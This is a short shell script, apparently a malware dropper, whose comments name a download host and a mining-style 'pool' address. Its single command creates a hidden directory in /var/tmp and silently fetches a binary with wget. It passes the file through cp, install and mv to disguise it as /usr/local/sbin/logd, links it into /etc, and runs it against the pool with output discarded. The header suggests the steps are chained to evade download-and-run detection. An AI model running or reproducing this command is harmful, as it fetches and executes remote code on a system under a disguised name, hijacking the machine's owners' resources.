# wget, cp, install, ln -s, mv: five tools between the download and the run
#http 203.0.113.60:8010
#pool 198.51.100.111:443:drop
mkdir -p /var/tmp/.a && cd /var/tmp/.a && wget -q http://203.0.113.60:8010/w -O data.bin && cp data.bin data.old && rm data.bin && install -m 755 data.old /usr/local/sbin/logd.new && mv /usr/local/sbin/logd.new /usr/local/sbin/logd && ln -s /usr/local/sbin/logd /etc/logd && timeout 12 /etc/logd -o 198.51.100.111:443 -u x -R 1 >/dev/null
